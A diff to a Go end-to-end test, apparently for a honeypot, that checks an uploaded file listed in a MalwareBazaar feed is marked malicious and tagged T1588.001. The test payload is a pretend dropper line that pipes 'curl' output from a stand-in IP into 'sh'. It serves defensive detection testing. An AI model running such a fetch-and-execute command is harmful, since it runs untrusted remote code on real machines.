@@ -284,8 +284,9 @@ func scpUpload(t *testing.T, addr, pw, dir, name string, content []byte) {
 
 // TestMalwareBazaarVerdictEndToEnd: a file an attacker uploads whose
 // sha256 is in the MalwareBazaar feed (served on loopback) is recorded as
-// malicious; after a restart with a feed that no longer lists it, a second
-// upload counts up but the verdict stays malicious.
+// malicious and tagged T1588.001 (known malware captured); after a restart
+// with a feed that no longer lists it, a second upload counts up but the
+// verdict stays malicious.
 func TestMalwareBazaarVerdictEndToEnd(t *testing.T) {
 	payload := []byte("#!/bin/sh\n# pretend dropper\ncurl -s http://203.0.113.7/b | sh\n")
 	sum := sha256.Sum256(payload)
@@ -323,6 +324,11 @@ func TestMalwareBazaarVerdictEndToEnd(t *testing.T) {
 	if k, _ := gotKey.Load().(string); k != "test-key" {
 		t.Errorf("feed request Auth-Key = %q", k)
 	}
+	// The tagger asks the same providers: known malware captured (R0058).
+	s.Login()
+	s.Eventually(10*time.Second, "T1588.001 on the attacker", func() bool {
+		return techniques(s, a.FirstSeenAttackerUUID)["T1588.001"] > 0
+	})
 
 	// The feed drops the hash; a new start loads it afresh and the same
 	// file comes again: benign by the feed now, malicious in the store.
